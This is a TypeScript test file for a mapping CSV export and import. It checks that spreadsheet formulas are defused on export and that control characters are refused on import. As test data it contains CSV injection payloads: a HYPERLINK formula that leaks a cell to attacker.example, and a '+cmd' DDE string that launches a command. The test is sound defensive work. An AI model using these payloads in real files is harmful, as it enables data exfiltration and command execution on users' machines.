/**
 * The mapping file and text: what a spreadsheet would run as a formula is defused on export
 * (and read back as it was on import), and text a database cannot hold is refused by line.
 */
import { eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { idMappings } from "@/server/db/schema";
import { UNRESTRICTED } from "@/server/auth/scope";
import { DomainError } from "../errors";
import { parseCsv } from "../imports/csv-time";
import { createTestDatabase, type TestDatabase } from "../../../../test/db";
import { makeUser, serviceCtxFor, type TestUser } from "../../../../test/factories";
import { buildWorld, type World } from "../../../../test/world";
import { exportMappingsCsv, importMappingsCsv } from "./csv";

let t: TestDatabase;
let w: World;
let pmo: TestUser;
beforeAll(async () => {
  t = await createTestDatabase();
  pmo = await makeUser(t.db, { roles: ["pmo"] });
  w = await buildWorld(t.db);
});
afterAll(async () => t?.drop());

const streamOf = (text: string) =>
  (async function* () {
    const bytes = new TextEncoder().encode(text);
    for (let i = 0; i < bytes.length; i += 50) yield bytes.slice(i, i + 50);
  })();
const importCsv = (text: string, dryRun: boolean) =>
  importMappingsCsv({ ctx: serviceCtxFor(t.db, pmo), input: { kind: "project", stream: streamOf(text), fileName: "m.csv", dryRun }, scope: UNRESTRICTED });
async function exportCsv() {
  let out = "";
  for await (const part of exportMappingsCsv({ ctx: serviceCtxFor(t.db, pmo), input: { kind: "project" }, scope: UNRESTRICTED })) out += part;
  return out;
}
const snapshot = () => t.db.select({ id: idMappings.id, key: idMappings.externalId, reason: idMappings.reason, version: idMappings.version }).from(idMappings).where(eq(idMappings.kind, "project")).orderBy(idMappings.id);

/** A cell a spreadsheet would run: =, +, -, @ first (after spaces), unless it is a plain number. */
const runs = (cell: string) => /^[\s]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe("formulas in the mapping file", () => {
  const hostile = `=HYPERLINK("http://attacker.example/?"&A1,"Open")`;

  it("the export defuses every field a spreadsheet would run, reasons and keys included", async () => {
    await t.db.update(idMappings).set({ reason: hostile }).where(eq(idMappings.externalId, w.ext.acme));
    const applied = await importCsv(`source_system,source_id,target_erp_id,reason\nharvest,@evil-${w.tag},${w.acme.erpId},+cmd|' /C calc'!A0\nharvest,-1-${w.tag},${w.beta.erpId},'=already quoted\n`, false);
    expect(applied.applied).toMatchObject({ created: 2 });
    // what a person typed is what is held
    const held = await snapshot();
    expect(held.find((m) => m.key === `@evil-${w.tag}`)!.reason).toBe("+cmd|' /C calc'!A0");
    expect(held.find((m) => m.key === `-1-${w.tag}`)!.reason).toBe("=already quoted");

    const file = await exportCsv();
    const records = parseCsv(file);
    const cells = records.flatMap((r) => r.fields);
    expect(cells.filter(runs)).toEqual([]);
    const byKey = new Map(records.map((r) => [r.fields[1], r.fields]));
    expect(byKey.get(`'@evil-${w.tag}`)?.[8]).toBe("'+cmd|' /C calc'!A0");
    expect(byKey.get(`'-1-${w.tag}`)?.[8]).toBe("'=already quoted");
    expect(records.find((r) => r.fields[8]?.includes("HYPERLINK"))!.fields[8]).toBe(`'${hostile}`);
  });

  it("the exported file re-imports as unchanged: the import takes the defusing apostrophe off", async () => {
    const before = await snapshot();
    const file = await exportCsv();
    const dry = await importCsv(file, true);
    expect(dry.errors).toEqual([]);
    expect(dry.totals).toMatchObject({ new: 0, changed: 0, error: 0 });
    await importCsv(file, false);
    expect(await snapshot()).toEqual(before);
  });
});

describe("text a database cannot hold in a mapping file", () => {
  it("is an error of its line in the dry run and refuses the import, writing nothing", async () => {
    const file = `source_system,source_id,target_erp_id,reason\nharvest,${w.ext.acme},${w.acme.erpId},fine\nharvest,p-${w.tag}-nul,${w.acme.erpId},"moved\u0000"\nharvest,p-${w.tag}\u0007x,${w.acme.erpId},x\n`;
    const before = await snapshot();
    const dry = await importCsv(file, true);
    expect(dry.errors).toEqual([
      { line: 3, message: "reason contains a control character (U+0000, NUL), which text cannot hold (at character 6)." },
      { line: 4, message: `source_id contains a control character (U+0007), which a one-line value cannot hold (at character ${`p-${w.tag}`.length + 1}).` },
    ]);
    expect(dry.rowResults[2]).toMatchObject({ sourceKey: `p-${w.tag}\\u0007x`, outcome: "error" });
    const refused = await importCsv(file, false).catch((e: unknown) => e);
    expect(refused).toBeInstanceOf(DomainError);
    expect((refused as DomainError).message).toBe("2 rows have errors, so nothing was imported. Correct them and import the file again.");
    expect(await snapshot()).toEqual(before);
    expect(await t.db.$count(idMappings, sql`${idMappings.reason} like 'moved%'`)).toBe(0);
  });
});
